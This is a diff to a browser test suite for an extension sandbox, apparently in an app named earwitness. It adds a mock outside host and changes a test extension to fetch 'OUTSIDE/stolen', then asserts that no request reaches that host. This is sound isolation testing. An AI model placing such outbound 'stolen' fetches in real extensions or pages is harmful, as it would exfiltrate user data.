@@ -5,10 +5,12 @@ from __future__ import annotations
 import base64
 import json
 import tomllib
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 from zipfile import ZipFile
 
+import pytest
 from playwright.sync_api import Page
 
 from tests.support.browser import Visitor, wait_ready
@@ -36,11 +38,12 @@ class Lines:
 """
 ESCAPE = """
 import json
+import time
 WAYS = {
     "indexedDB": lambda js: js.indexedDB.open("earwitness"),
     "caches": lambda js: js.caches.keys(),
     "files": lambda js: js.navigator.storage.getDirectory(),
-    "fetch": lambda js: js.fetch("/api/transcripts"),
+    "fetch": lambda js: js.fetch("OUTSIDE/stolen", mode="no-cors"),
     "XMLHttpRequest": lambda js: js.XMLHttpRequest.new(),
     "WebSocket": lambda js: js.WebSocket.new("wss://example.com"),
     "EventSource": lambda js: js.EventSource.new("/"),
@@ -71,6 +74,9 @@ class Escape:
             if hasattr(answer, "then"):
                 answer.then(lambda *_: None, lambda *_: None)
                 if name == "fetch":
+                    until = time.monotonic() + 1
+                    while time.monotonic() < until:
+                        pass  # The browser sends it meanwhile, if nothing forbids it.
                     continue
             open_ways.append(name)
         return {0: json.dumps(open_ways)}
@@ -177,11 +183,30 @@ def test_module_of_one_file_is_an_extension(visitor: Visitor, server: ServerProc
     assert [each["start_s"] for each in found["segments"]] == [0.0, 1.0]
 
 
+@pytest.fixture
+def outside(tmp_path: Path, visitor: Visitor) -> Iterator[StaticSite]:
+    """A host that this browser reaches, and no extension must."""
+    site = StaticSite(tmp_path)
+    blank = visitor.context.new_page()
+    fetch = "(url) => fetch(url, { mode: 'no-cors' }).then(() => {}, () => {})"
+    blank.evaluate(fetch, f"{site.origin}{site.put('control', b'')}")
+    blank.close()
+    assert len(site.requests) == 1
+    site.requests.clear()
+    yield site
+    assert site.requests == []
+    site.close()
+
+
+def escape(outside: StaticSite) -> bytes:
+    return ESCAPE.replace("OUTSIDE", outside.origin).encode()
+
+
 def test_extension_has_no_way_out_and_little_memory(
-    visitor: Visitor, server: ServerProcess
+    visitor: Visitor, server: ServerProcess, outside: StaticSite
 ) -> None:
     page = visitor.open(server.url)
-    add(page, "escape.py", ESCAPE.encode())
+    add(page, "escape.py", escape(outside))
     add(page, "greedy.py", GREEDY.encode())
     id_ = imported(page, SRT)
     page.evaluate("(id) => earwitness.apply(id, 'escape.Escape')", id_)
@@ -193,13 +218,13 @@ def test_extension_has_no_way_out_and_little_memory(
 
 
 def test_extension_has_no_way_out_on_a_host_without_headers(
-    visitor: Visitor, plain_host: StaticSite
+    visitor: Visitor, plain_host: StaticSite, outside: StaticSite
 ) -> None:
     page = visitor.open(plain_host.url)
     page.evaluate("() => navigator.serviceWorker.ready")
     page.reload()
     wait_ready(page)
-    add(page, "escape.py", ESCAPE.encode())
+    add(page, "escape.py", escape(outside))
     id_ = imported(page, SRT)
     page.evaluate("(id) => earwitness.apply(id, 'escape.Escape')", id_)
     found = page.evaluate("(id) => earwitness.get(id)", id_)
